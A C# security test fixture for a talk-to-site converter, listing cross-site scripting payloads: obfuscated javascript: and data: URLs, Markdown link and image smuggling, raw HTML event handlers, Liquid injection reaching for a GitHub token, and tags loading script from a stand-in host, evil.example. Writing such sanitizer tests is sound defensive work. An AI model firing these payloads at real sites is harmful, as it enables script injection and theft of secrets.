namespace TalkDsl.Tests.Security;

/// <summary>
/// Script-injection payloads, as an attacker writes them into a talk: URLs that run script (every spelling
/// a browser still reads as <c>javascript:</c>), Markdown that carries them (inline, reference, autolink,
/// image), raw HTML, and Liquid for the Jekyll post.
/// </summary>
internal static class XssVectors
{
    /// <summary>Addresses a page must never link to or load.</summary>
    public static readonly string[] UnsafeUrls =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "\u0001javascript:alert(1)",
        "javascript\u0000:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#058;alert(1)",
        "javascript&#x3a;alert(1)",
        "javascript&#X3A;alert(1)",
        "javascript&colon;alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#9;ascript:alert(1)",
        "javascript:alert(document.cookie)//",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,x",
        "data:application/javascript,alert(1)",
        "data:image/svg+xml,<svg onload=alert(1)>", // allowed for an image's src only, never as a link
        "livescript:alert(1)",
        "file:///etc/passwd",
        "jar:http://x!/",
        "view-source:http://x",
        "javascript\\:alert(1)",
        "java\u00ADscript:alert(1)",
        "javascript\u200B:alert(1)",
        "mocha:alert(1)",
        "feed:javascript:alert(1)",
        "x-javascript:alert(1)",
        "about:blank",
        "blob:http://x/uuid",
    ];

    /// <summary>Markdown that smuggles an unsafe address into a link or image.</summary>
    public static readonly string[] Markdown =
    [
        .. UnsafeUrls.Where(u => !u.Contains('\n') && !u.Contains(' ') && !u.Contains('\t')).Select(u => $"[x]({u})"),
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](javascript:alert(1) \"title\")",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:msgbox(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][]\n\n[x]: <javascript:alert(1)>",
        "[r]\n\n[r]: JaVaScRiPt:alert(1) \"t\"",
        "![x](javascript:alert(1))",
        "![x](data:text/html,<script>alert(1)</script>)",
        "![x][i]\n\n[i]: vbscript:msgbox(1)",
        "[![img](https://example.org/a.png)](javascript:alert(1))",
        "[**bold** link](javascript&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#x09;script:alert(1))",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "{{ site.github.token }} {% include secret.html %}",
        "{% endraw %}{{ 7 | times: 6 }}{% raw %}",
        "`{{ code }}` and $x_{ {a} }$ and ```\n{% raw %}\n```",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
    ];

    /// <summary>Plain-text payloads for titles, names and venues: they must come out as text.</summary>
    public static readonly string[] Text =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "{{ site.github.token }}",
        "{% endraw %}{% include x %}",
        "title: injected\n---\nlayout: evil",
        "javascript:alert(1)",
    ];

    /// <summary>Raw HTML for a block that allows it (<c>allowHtml: true</c>): the sanitizer must leave nothing that runs or loads script.</summary>
    public static readonly string[] RawHtml =
    [
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"javascript:alert(1)\"",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<script>alert(1)</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<iframe data-src=\"javascript:alert(1)\"></iframe>",
        "<div onclick=\"alert(1)\" onmouseover=alert(1)>x</div>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input type=image src=\"javascript:alert(1)\">",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=import href=\"https://evil.example/x.html\">",
        "<area href=\"javascript:alert(1)\">",
        "<video poster=\"javascript:alert(1)\"></video>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<section data-background-iframe=\"javascript:alert(1)\">x</section>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<div id=\"x\" class=\"y\"><p>unclosed <b>markup",
    ];

    /// <summary>Whether an address read back from any format (an href, a relationship, a PDF link) would run script.</summary>
    public static bool RunsScript(string? address)
    {
        var url = new string([.. (address ?? string.Empty).Where(c => c > ' ')]).ToLowerInvariant();
        return url.StartsWith("javascript:", StringComparison.Ordinal) || url.StartsWith("vbscript:", StringComparison.Ordinal) || url.StartsWith("data:text/html", StringComparison.Ordinal);
    }

    /// <summary>Addresses that stay links.</summary>
    public static readonly string[] SafeUrls =
    [
        "https://example.org/a?b=c#d",
        "http://example.org",
        "HTTPS://EXAMPLE.ORG",
        "mailto:ada@example.org",
        "diagrams/gp.png",
        "../other.html",
        "/site/path",
        "//cdn.example.org/x.js",
        "#anchor",
        "?query",
        "diagrams/a:b.png",
        "",
    ];
}
